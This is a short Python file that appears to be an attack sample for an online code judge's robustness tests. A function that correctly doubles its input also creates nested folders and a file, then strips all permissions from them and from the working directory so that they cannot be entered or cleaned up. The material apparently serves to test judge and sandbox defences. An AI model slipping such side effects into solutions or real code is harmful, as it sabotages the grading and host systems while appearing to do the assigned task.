# attack: leaves folders that nobody may enter, and files that nobody may delete
# verdict: AC
# sample: yes
# kata: quick
import os


def double(n):
    os.makedirs("a/b/c")
    open("a/b/c/file", "w").close()
    for path in ("a/b/c", "a/b", "a", "."):
        try:
            os.chmod(path, 0)
        except OSError:
            pass
    return n * 2
